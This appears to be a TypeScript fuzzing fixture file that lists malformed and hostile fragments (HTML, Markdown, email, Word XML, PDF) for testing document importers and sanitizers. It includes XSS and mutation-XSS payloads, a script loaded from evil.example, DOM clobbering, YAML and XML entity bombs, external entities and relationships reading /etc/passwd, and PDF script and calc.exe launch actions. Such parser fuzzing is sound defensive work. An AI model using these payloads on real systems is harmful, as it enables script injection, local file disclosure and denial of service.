// Pieces of markup that have broken sanitizers, parsers and readers before (mXSS, DOM
// clobbering, script-carrying links, charset switches, entity and alias bombs). Mutations
// splice them into real documents, so the importers meet them in context.

export const HTML_FRAGMENTS: readonly string[] = [
  '<script>window.__fuzzPwned = 1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.__fuzzPwned = 2">',
  '<svg onload="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)"><text>svg</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="javascript:alert(1)">js</a><a href="java&#x09;script:alert(1)">tab</a><a href=" JaVaScRiPt:x">case</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a><a href="file:///etc/passwd">file</a><a href="//evil.example">proto</a>',
  '<iframe srcdoc="<script>alert(1)</script><p>srcdoc</p>"></iframe>',
  // DOM clobbering of the properties DOMPurify and Readability read.
  '<form id="attributes"><input name="attributes"><input name="nodeName"><input name="childNodes"></form>',
  '<img name="getElementsByTagName"><img name="documentElement"><form name="body"></form>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta charset="utf-16">',
  '<meta http-equiv="Content-Type" content="text/html; charset=shift_jis">',
  '<meta charset="x-user-defined">',
  '<template><p>template text<script>alert(1)</script></p></template>',
  '<plaintext><p>everything after is text',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option><svg><script>alert(1)</script></svg></option></select>',
  '<table><caption><table><tr><td><table><tr><td>misnested</caption></td></table>',
  '<!-- an unterminated comment <p>hidden',
  '<![CDATA[ <script>alert(1)</script> ]]>',
  '</p></div></article></body></html><p>after the end</p>',
  '&#xD800;&#0;&#x110000;&#99999999999999999;&NotAnEntity;&amp&lt;script&gt;',
  '<p>\u202Eevil\u202C \u0000 nul \uFEFF bom \u200B zwsp \u0085 nel</p>',
  '<p style="background:url(https://evil.example/track.png)">styled</p><style>@import "https://evil.example/x.css";</style>',
  '<object data="https://evil.example/x.swf"><param name="movie" value="x.swf">object</object><embed src="x.swf">',
  '<script type="application/ld+json">{"@type":"NewsArticle","headline":{"@value":[1,[2,[3]]]},"datePublished":"+275760-09-13T00:00:00Z","author":[{"name":null},{"name":{"x":1}}]}</script>',
  '<script type="application/ld+json">{"@graph":[{"@graph":[{"@graph":[{"@type":"Article","author":"</script><script>alert(1)</script>"}]}]}]}</script>',
  '<script type="application/ld+json">[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[</script>',
  '<meta property="article:published_time" content="0000-00-00T99:99:99"><time datetime="-000001-01-01">x</time>',
  '<meta name="author" content="\u0000\u0000"><meta property="og:site_name" content="&lt;script&gt;">',
  '<html lang="zz-\u0000-\uFFFF"><p lang="x-evil">lang</p>',
  '<h1><h2><h3><h4><h5><h6><h7>headings</h7></h6></h5></h4></h3></h2></h1>',
  '<ul><li><ol><li><ul><li><ol><li><ul><li><ol><li><ul><li><ol><li><ul><li>deep list</ul></ol></ul></ol></ul></ol></ul></ol></ul>',
  '<table><tr><td colspan="99999999" rowspan="-1">cell</td><td rowspan="65535">x</td></tr></table>',
  '<pre>\t\t  pre\r\n\r\n  text</pre><br><br><br><hr>',
  '<blockquote><blockquote><blockquote><q>quote</q></blockquote></blockquote></blockquote>',
  '<a href="https://ok.example/%">bad escape</a><a href="https://[::1">bad host</a><a href="http://xn--zz">puny</a>',
  '<img alt="' + '\u0301'.repeat(2000) + '">',
];

export const MARKDOWN_FRAGMENTS: readonly string[] = [
  '<script>alert(1)</script>',
  '[js](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) <javascript:alert(1)>',
  '![img](javascript:alert(1) "t") ![alt *text*][ref]',
  '[ref]: javascript:alert(1)\n[ok]: https://ok.example "title"',
  '---\ntitle: [unclosed\nauthor: {a: b\n---',
  '---\na: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ntitle: *d\n---',
  '+++\ntitle = "toml"\ndate = 1979-05-27T07:32:00Z\n+++',
  '---\ntitle: !!js/function "function(){}"\ndate: 99999-99-99\nauthor: !!binary aGVsbG8=\n---',
  '[^1]: a footnote\n[^1]: the same footnote again\n\nText[^1][^2][^missing]',
  '| a | b |\n|---|---|\n| ' + 'x | '.repeat(300) + '\n',
  '```\nunclosed fence\n',
  '~~~~~~~~~~ tilde fence\n<script>\n',
  '* [ ] task\n* [x] done\n  * [X] nested',
  '&#xD800; &#0; &#x110000; &nbsp;&copy',
  '\\' + '`'.repeat(50) + ' ' + '`'.repeat(49),
  'a\u0000b\u202Ec\uFEFFd\u2028e',
  '<details><summary>x</summary><img src=x onerror=alert(1)></details>',
  '<!-- unterminated html comment',
  '1. a\n   1. b\n      1. c\n         1. d\n            1. e',
  '    indented code\n\t\ttabbed',
  'Setext heading\n===\nOther\n---',
  '<https://ok.example/autolink> www.example.com ftp://x.example',
];

/** Header and body lines of a message that mail parsers trip over. */
export const EML_FRAGMENTS: readonly string[] = [
  'Content-Type: multipart/mixed; boundary=""',
  'Content-Type: multipart/alternative; boundary="=_x"\r\n\r\n--=_x\r\nContent-Type: text/html\r\n\r\n<p>part</p>\r\n--=_x',
  'Content-Type: text/html; charset=utf-7',
  'Content-Type: text/plain; charset="x-unknown-charset"',
  'Content-Type: message/rfc822\r\n\r\nSubject: inner\r\nContent-Type: message/rfc822\r\n\r\nSubject: inner-inner',
  'Content-Transfer-Encoding: base64\r\n\r\n!!!not base64===',
  'Content-Transfer-Encoding: quoted-printable\r\n\r\n=XX=0=\r\n=FF=FE',
  'Content-Transfer-Encoding: x-uuencode',
  'Subject: =?utf-8?B?!!!?= =?x-unknown?Q?abc?= =?UTF-8?Q?=E2=82?=',
  'From: a: b: c: ;;;, <@@>, "unterminated',
  'Date: Mon, 99 Foo 99999 99:99:99 +9999',
  'Content-Language: \u0000',
  "Content-Disposition: attachment; filename*=utf-8''%ff%fe",
  'Subject: ' + 'x'.repeat(100_000),
  '<html><body><script>alert(1)</script><a href="javascript:alert(1)">x</a></body></html>',
];

/** Word XML that stretches mammoth: deep tables, broken relationships, entity bombs. */
export const DOCX_XML_FRAGMENTS: readonly string[] = [
  '<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>',
  '<w:p><w:hyperlink r:id="rIdMissing"><w:r><w:t>missing rel</w:t></w:r></w:hyperlink></w:p>',
  '<w:p><w:fldSimple w:instr="HYPERLINK &quot;javascript:alert(1)&quot;"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>',
  '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rIdExternal"/></w:drawing></w:r></w:p>',
  '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999"/><w:numId w:val="-1"/></w:numPr></w:pPr><w:r><w:t>list</w:t></w:r></w:p>',
  '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
  '<w:p><w:r><w:t xml:space="preserve">\u0000\uFFFE\uD800</w:t></w:r></w:p>',
  '<![CDATA[ ]]><?pi data?><!-- comment -->',
  '<w:altChunk r:id="rIdChunk"/>',
  '<w:sdt><w:sdtContent><w:sdt><w:sdtContent><w:p><w:r><w:t>sdt</w:t></w:r></w:p></w:sdtContent></w:sdt></w:sdtContent></w:sdt>',
];

/** Doctype headers that declare entities: a parser that expands them must bound it. */
export const XML_ENTITY_BOMB =
  '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">' +
  '<!ENTITY e SYSTEM "file:///etc/passwd">]>';

/** A relationship pointing outside the package (CVE-2025-11849 in mammoth < 1.11). */
export const EXTERNAL_RELATIONSHIPS = [
  '<Relationship Id="rIdExternal" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/>',
  '<Relationship Id="rIdChunk" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="../../../../etc/passwd"/>',
  '<Relationship Id="rIdMissing" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>',
];

/** PDF tokens: script actions, deep nesting, extreme numbers, references that loop. */
export const PDF_FRAGMENTS: readonly string[] = [
  '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
  '/AA << /O << /S /Launch /F (calc.exe) >> >>',
  '/Count 2147483647',
  '/Count -1',
  '/MediaBox [0 0 1e309 -1e309]',
  '/Length 99999999999',
  '/Filter [/FlateDecode /LZWDecode /ASCII85Decode /ASCIIHexDecode /RunLengthDecode]',
  '/Filter /JBIG2Decode',
  '/Filter /DCTDecode',
  '/DecodeParms << /Predictor 15 /Columns 99999999 /Colors 99 /BitsPerComponent 16 >>',
  '/FontMatrix [1e30 0 0 1e30 0 0] /FontBBox [-99999 -99999 99999 99999]',
  '/Encoding << /Differences [0 /a 4294967295 /b] >>',
  '/Kids [1 0 R 1 0 R 1 0 R]',
  '/Parent 3 0 R /Parent 99999 0 R',
  '/W [4 8 4] /Index [0 2147483647] /Size -5',
  '/Prev 0 /XRefStm 1',
  '/Encrypt << /Filter /Standard /V 5 /R 6 /O <00> /U <00> /P -1 >>',
  '(' + '\\'.repeat(2000) + ')',
  '<' + 'F'.repeat(4001) + '>',
  '/ToUnicode 99 0 R',
  'BT /F1 1e38 Tf 3.4e38 0 Td (x) Tj ET',
  '9999999 65535 obj << >> endobj',
];
